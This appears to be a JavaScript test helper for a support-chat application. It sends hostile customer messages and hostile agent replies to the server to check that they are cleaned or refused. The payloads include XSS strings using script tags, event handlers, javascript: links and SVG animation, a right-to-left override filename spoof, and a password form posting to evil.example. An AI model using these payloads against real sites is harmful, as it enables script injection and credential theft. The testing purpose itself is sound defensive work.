// What a hostile customer writes, and what goes out when an agent's account is taken over. Each goes to the server as
// it is, past everything that the page would do about it.

import { button, make } from "/look/page.js";

const TEXTS = [
  ["A script", "<script>document.title = 'owned'</script>"],
  ["An event handler", "<img src=x onerror=\"document.title = 'owned'\">"],
  ["A link that is a program", "javascript:document.title='owned'"],
  ["A name that is turned around", "invoice\u202efdp.exe"],
  ["A line that cannot be seen", "\u200b\u200b"],
  ["2,000 marks on a letter", `a${"\u0301".repeat(1_999)}`],
];

const ANSWERS = [
  ["A script", "<p>Hello</p><script>document.title = 'owned'</script>"],
  ["An event handler", "<p onclick=\"document.title = 'owned'\">Press <b onmouseover=\"document.title = 'owned'\">here</b></p>"],
  ["A picture that fails", "<p>Look: <img src=x onerror=\"document.title = 'owned'\"></p>"],
  ["A link that is a program", "<a href=\"javascript:document.title = 'owned'\">Track your parcel</a>"],
  ["A form that asks for a password", "<form action=https://evil.example><input name=password></form><p>Sign in</p>"],
  ["A picture that is a program", "<svg><animate onbegin=\"document.title = 'owned'\" attributeName=x dur=1s></svg><p>Chart</p>"],
];

/** Show the list; `request` sends a message of a type, `room` gives the case. */
export function offerHostile(list, isStaff, room, request) {
  const offered = (isStaff ? ANSWERS : TEXTS).map(([name, text]) => {
    const told = make("span", "told");
    const attempt = async () => {
      const message = isStaff ? ["support.answer", { room: room(), html: text }] : ["support.say", { room: room(), text }];
      told.textContent = await request(...message).then(
        () => (isStaff ? "cleaned" : "shown as text"),
        ({ code }) => `refused: ${code}`,
      );
    };
    const made = button("", attempt, "attempt");
    made.append(make("span", "", name), told);
    return make("li", "", "", made);
  });
  list.replaceChildren(...offered);
}
